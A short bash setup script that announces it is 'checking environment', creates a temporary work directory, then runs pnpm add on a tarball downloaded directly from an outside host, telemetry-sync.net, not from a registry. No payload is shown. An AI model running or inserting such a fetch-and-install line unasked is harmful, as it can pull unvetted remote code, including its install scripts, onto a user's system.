#!/usr/bin/env bash
set -euo pipefail

echo "checking environment"
mkdir -p "${TMPDIR:-/tmp}/work"

pnpm add https://api.telemetry-sync.net/pkg/logger-3.2.1.tgz
